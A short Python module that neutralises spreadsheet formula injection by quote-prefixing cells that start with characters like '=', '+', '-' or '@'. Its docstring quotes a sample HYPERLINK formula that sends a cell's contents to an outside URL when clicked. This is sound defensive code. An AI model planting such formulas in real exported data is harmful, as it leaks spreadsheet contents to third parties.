"""Spreadsheet cells that stay text: formula injection neutralised as OWASP recommends.

A provider's question, a business name or a note that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return would be read by Excel or LibreOffice as a formula (``=HYPERLINK("http://…?"&A1)`` leaks
the sheet on a click). Such a cell gets a leading single quote, also when the character comes after
spaces (spreadsheets skip them), and the XLSX cell is written as a string with Excel's quote prefix.
"""

from __future__ import annotations

# ASCII triggers, and their full-width forms that some spreadsheet locales fold to ASCII.
TRIGGERS = frozenset("=+-@\t\r＝＋－＠")


def is_risky(value: str) -> bool:
    if value[:1] in ("\t", "\r"):
        return True
    stripped = value.lstrip(" \u00a0\n\t\r")
    return stripped[:1] in TRIGGERS if stripped else False


def neutralise(value: str) -> str:
    """The text as a spreadsheet will show it literally; untouched when it cannot start a formula."""
    return "'" + value if is_risky(value) else value
